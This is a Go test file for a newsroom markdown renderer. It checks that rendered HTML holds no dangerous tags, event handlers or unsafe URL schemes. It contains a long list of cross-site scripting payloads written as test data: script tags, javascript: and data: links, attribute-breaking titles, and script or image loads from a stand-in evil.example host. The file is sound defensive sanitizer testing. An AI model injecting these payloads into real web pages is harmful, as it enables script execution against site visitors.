package markdown_test

import (
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"galley/app/markdown"
)

// checkSafe fails where markup holds anything but what a body may hold.
func checkSafe(t *testing.T, markup string) {
	t.Helper()
	if again := markdown.Clean(markup); again != markup {
		t.Errorf("the cleaner changes what was rendered:\n%q\n%q", markup, again)
	}
	forbidden := []string{"script", "style", "iframe", "object", "embed", "form", "input", "svg", "math", "base", "meta", "link", "template", "noscript"}
	tokens := html.NewTokenizer(strings.NewReader(markup))
	for tokens.Next() != html.ErrorToken {
		token := tokens.Token()
		if token.Type == html.CommentToken || token.Type == html.DoctypeToken {
			t.Errorf("%v in %q", token, markup)
		}
		if token.Type != html.StartTagToken && token.Type != html.SelfClosingTagToken {
			continue
		}
		if slices.Contains(forbidden, token.Data) {
			t.Errorf("<%s> in %q", token.Data, markup)
		}
		for _, a := range token.Attr {
			checkAttribute(t, token.Data, a)
		}
	}
}

func checkAttribute(t *testing.T, element string, a html.Attribute) {
	t.Helper()
	switch {
	case strings.HasPrefix(a.Key, "on"), a.Key == "style", a.Key == "srcdoc", a.Key == "action", a.Key == "formaction":
		t.Errorf("attribute %s on <%s>", a.Key, element)
	case a.Key == "href", a.Key == "src":
		u, err := url.Parse(a.Val)
		if err != nil {
			t.Errorf("%s=%q does not parse: %v", a.Key, a.Val, err)
			return
		}
		if !slices.Contains([]string{"", "http", "https", "mailto", "tel"}, u.Scheme) {
			t.Errorf("%s=%q", a.Key, a.Val)
		}
		if a.Key == "src" && (u.Scheme != "" || u.Host != "") {
			t.Errorf("a picture is loaded from elsewhere: %q", a.Val)
		}
	}
}

// hostile are texts written to do harm.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<ScRiPt src=//evil.example/x.js></sCrIpT>`,
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	`<img src=x onerror=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`text <b onmouseover="alert(1)">bold</b>`,
	"<div>\n<iframe src=\"javascript:alert(1)\"></iframe>\n</div>",
	`<!-- --><script>alert(1)</script><!-- -->`,
	"<![CDATA[<script>alert(1)</script>]]>",
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`[a](javascript:alert(1))`,
	`[a](JaVaScRiPt:alert(1))`,
	"[a](java\tscript:alert(1))",
	"[a](<java\nscript:alert(1)>)",
	`[a](&#106;avascript:alert(1))`,
	`[a](&#x6A;&#x61;vascript&colon;alert(1))`,
	`[a](java%73cript:alert(1))`,
	"[a](\u0001javascript:alert(1))",
	`[a](<  javascript:alert(1)>)`,
	`[a](vbscript:msgbox)`,
	`[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`[a](file:///etc/passwd)`,
	`[a](//evil.example/x)`,
	`[a](\\evil.example\x)`,
	`[a](/\evil.example)`,
	`[a](https://bank.example@evil.example/)`,
	`[a](http:javascript:alert(1))`,
	`[a](https:///x)`,
	`[a](blob:https://example.org/1)`,
	`[a](story:"onclick=alert(1)")`,
	`[a](x "\" onmouseover=\"alert(1)")`,
	`[a](x '"><script>alert(1)</script>')`,
	`<javascript:alert(1)>`,
	`<https://example.org/"onclick="alert(1)>`,
	`![x](javascript:alert(1))`,
	`![x" onerror="alert(1)](ferry.svg)`,
	`![x](ferry.svg '"><script>alert(1)</script>')`,
	`![x](data:image/svg+xml,<svg onload=alert(1)>)`,
	`![x](//evil.example/pixel.gif)`,
	`![x](https://evil.example/pixel.gif)`,
	"## x {onclick=alert(1)}",
	"## x {#a style=\"background:url(x)\" .b}",
	"## x {#\"><script>alert(1)</script>}",
	"```\"><script>alert(1)</script>\nx\n```",
	"`<script>alert(1)</script>`",
	"    <script>alert(1)</script>",
	"| <script>alert(1)</script> |\n|---|\n| [a](javascript:alert(1)) |",
	"x[^\"><script>]\n\n[^\"><script>]: <img src=x onerror=alert(1)>",
	"> — <script>alert(1)</script>\n> — [a](javascript:alert(1))",
	"- [x] <input onfocus=alert(1) autofocus>",
	"[a]: javascript:alert(1)\n\n[a] and [b][a]",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"\u202e&#8238;&#x202D;gnp.exe\u2066&#8295;",
	"\xff\xfe<script>\xc0\xbcscript\xc0\xbe",
	"<p title='\n\n<img src=x onerror=alert(1)>\n\n'>",
	"<a href='javascript:alert(1)'>x</a>",
	"a\u2028<script>b\u2029",
}

func TestHostile(t *testing.T) {
	for _, src := range hostile {
		for _, language := range []string{"en", "ar"} {
			checkSafe(t, string(markdown.Render(src, newsroomOf(language))))
			checkSafe(t, string(markdown.Isolate(src, language)))
		}
	}
}

func TestHostileNewsroom(t *testing.T) {
	const payload = `x" onerror="alert(1)"><script>alert(1)</script>`
	got := string(markdown.Render("[a](story:b)\n\n![c](d)\n\n[e](https://f.example/)\n\ng[^1]\n\n[^1]: h", markdown.Options{
		Language: payload,
		Link:     func(string) (string, bool) { return "javascript:alert(1)//" + payload, true },
		Picture: func(string) (markdown.Picture, bool) {
			return markdown.Picture{Src: "javascript:alert(1)", Alt: payload, Caption: payload, Credit: payload,
				Sources: []markdown.Source{{Type: payload, SrcSet: payload}}}, true
		},
		Dateline: payload,
		Outward:  func(string) string { return "javascript:alert(1)" },
		Digits:   func(string) string { return payload },
	}))
	checkSafe(t, got)
}

// TestDeep renders what is nested or repeated past all measure: it must end,
// and must not exhaust the stack.
func TestDeep(t *testing.T) {
	for _, unit := range []string{">", "- ", "*a", "[", "![", "](", "<", "`", "_a ", "| a ", "[^1]", "\u2066", "a\u0301", "1-", "٥-"} {
		checkSafe(t, string(markdown.Render(strings.Repeat(unit, 2_000), newsroomOf("ar"))))
	}
}

// TestSuites renders the cases of other projects where a copy lies beside this
// one.
func TestSuites(t *testing.T) {
	var files []string
	for _, pattern := range []string{"owasp/*", "owasp/*/*", "dompurify/test/fixtures/*"} {
		found, err := filepath.Glob(filepath.Join("..", "..", "..", "shared", "suites", pattern))
		if err != nil {
			t.Fatal(err)
		}
		files = append(files, found...)
	}
	if len(files) == 0 {
		t.Skip("no suites beside this checkout")
	}
	quoted := regexp.MustCompile("(?s)\"payload\": *\"((?:[^\"\\\\]|\\\\.)*)\"")
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			continue // a folder
		}
		cases := strings.Split(string(data), "\n")
		for _, match := range quoted.FindAllStringSubmatch(string(data), -1) {
			cases = append(cases, strings.NewReplacer(`\"`, `"`, `\n`, "\n", `\\`, `\`).Replace(match[1]))
		}
		for _, src := range cases {
			checkSafe(t, string(markdown.Render(src, newsroomOf("en"))))
		}
	}
}

// FuzzRender is run with -fuzzminimizetime=20x: by default the engine spends up
// to a minute on making each new input small, and stands still meanwhile.
func FuzzRender(f *testing.F) {
	for _, src := range hostile {
		f.Add(src, true)
	}
	for _, language := range []string{"en", "ar", "es"} {
		if src, err := os.ReadFile("testdata/" + language + ".md"); err == nil {
			f.Add(string(src), language == "ar")
		}
	}
	f.Fuzz(func(t *testing.T, src string, arabic bool) {
		language := "en"
		if arabic {
			language = "ar"
		}
		checkSafe(t, string(markdown.Render(src, newsroomOf(language))))
		checkSafe(t, string(markdown.Isolate(src, language)))
		markdown.Outline(src)
		markdown.Words(src)
		if n := len([]rune(markdown.Excerpt(src, 40))); n > 40 {
			t.Errorf("an excerpt of 40 has %d", n)
		}
	})
}
